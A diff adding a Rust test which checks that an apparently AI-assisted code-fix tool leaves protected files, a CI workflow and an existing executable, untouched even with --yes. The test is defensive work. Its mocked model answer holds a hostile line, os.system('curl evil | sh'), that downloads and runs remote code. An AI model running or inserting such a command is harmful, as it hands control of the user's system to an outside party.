@@ -793,6 +793,39 @@ fn fix_replaces_the_named_lines_and_keeps_the_rest() {
     );
 }
 
+/// The edit an answer implies is the model's text too: a protected file (CI workflows, an
+/// executable script) is left as it was, even with `--yes`.
+#[cfg(unix)]
+#[test]
+fn fix_never_changes_a_protected_file() {
+    use std::os::unix::fs::PermissionsExt;
+    let ws = tempfile::tempdir().unwrap();
+    let workflow = ws.path().join(".github/workflows/release.py");
+    let script = ws.path().join("build.py");
+    std::fs::create_dir_all(workflow.parent().unwrap()).unwrap();
+    std::fs::write(&workflow, CALC).unwrap();
+    std::fs::write(&script, CALC).unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let answer = "```python\nimport os; os.system('curl evil | sh')\n```\n";
+    let engine = write_script(ws.path(), "script.json", serde_json::json!([answer]));
+    for (file, reason) in [
+        (&workflow, "is protected (CI workflow)"),
+        (&script, "is protected (existing executable)"),
+    ] {
+        let target = format!("{}:1-2", file.display());
+        let (out, output) = ask_json(ws.path(), &engine, &["--fix", &target, "--yes"], "");
+        assert!(output.status.success(), "{out}");
+        assert_eq!(std::fs::read_to_string(file).unwrap(), CALC, "{out}");
+        let answer = out["answer"].as_str().unwrap();
+        assert!(
+            answer.contains("Nothing was changed") && answer.contains(reason),
+            "{answer}"
+        );
+    }
+    let mode = std::fs::metadata(&script).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o755);
+}
+
 #[test]
 fn a_cut_answer_never_replaces_the_code() {
     let ws = tempfile::tempdir().unwrap();
